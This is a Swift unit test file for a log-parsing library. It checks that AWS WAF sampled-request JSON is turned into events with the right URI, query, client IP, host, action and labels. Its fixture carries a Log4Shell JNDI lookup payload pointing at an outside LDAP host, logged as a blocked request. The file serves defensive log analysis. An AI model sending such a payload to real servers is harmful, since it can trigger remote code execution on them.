import Evidence
import Testing

@testable import LogParse

@Suite struct WAFSampleTests {
  private func sample(_ time: String, uri: String = "/login?x=${jndi:ldap://203.0.113.5/a}") -> String {
    #"{"Request":{"ClientIP":"203.0.113.66","Country":"NL","URI":"\#(uri)","Method":"GET","HTTPVersion":"HTTP/1.1","#
      + #""Headers":[{"Name":"Host","Value":"shop.example"},{"Name":"User-Agent","Value":"curl"}]},"Weight":3,"#
      + #""Timestamp":\#(time),"Action":"BLOCK","RuleNameWithinRuleGroup":"AWS#Known#Log4JRCE_HEADER","#
      + #""Labels":[{"Name":"awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"}]}"#
  }

  @Test func samplesAreToldAsTheLogTellsRequests() throws {
    let list = [sample("\"2026-03-11T13:00:00+09:00\""), sample("1773201600.5", uri: "/a"), "{}", "7"]
    let dump = try EventDump(
      "{\"SampledRequests\": [\(list.joined(separator: ",\n"))], \"PopulationSize\": 2}", path: "sampled.json")
    #expect(dump.format == "aws.waf.sample" && dump.events.count == 2)
    let event = try #require(dump.events.first)
    #expect(event.dataType == "aws:waf:request" && event.time?.description == "2026-03-11T04:00:00.000Z")
    #expect(event.text("uri") == "/login" && event.text("query") == "x=${jndi:ldap://203.0.113.5/a}")
    #expect(event.text("client_ip") == "203.0.113.66" && event.text("host") == "shop.example")
    #expect(event.text("user_agent") == "curl" && event.text("action") == "BLOCK")
    #expect(event["labels"] == .texts(["awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"]))
    #expect(dump.events.last?.time?.description == "2026-03-11T04:00:00.000Z")
  }

  @Test func noOtherListIsTakenForOne() throws {
    for text in [#"{"Events":[]}"#, #"{"note":"see SampledRequests"}"#] {
      #expect(try EventDump(text, path: "x.json").format != "aws.waf.sample")
    }
  }
}
